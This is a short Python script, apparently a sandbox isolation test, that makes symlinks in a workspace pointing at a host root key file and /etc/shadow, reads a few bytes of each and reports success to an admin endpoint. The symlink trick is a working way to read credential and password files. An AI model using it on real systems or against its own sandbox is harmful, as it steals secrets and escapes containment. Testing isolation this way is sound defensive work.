"""Reach host secrets through symlinks made in the workspace."""

import os

import maos_pod_client as pod


def report(achieved: bool, detail: object) -> None:
    pod.request("admin", "report", {"achieved": achieved, "detail": str(detail)[:60000]})


got = []
for name, target in (("k", os.environ["MAOS_T_DATA"] + "/keys/root.key"), ("s", "/etc/shadow")):
    try:
        os.symlink(target, name)
        with open(name, "rb") as f:
            got.append((target, f.read(8)))
    except OSError as exc:
        got.append((target, repr(exc)))
report(any(isinstance(v, bytes) for _, v in got), got)
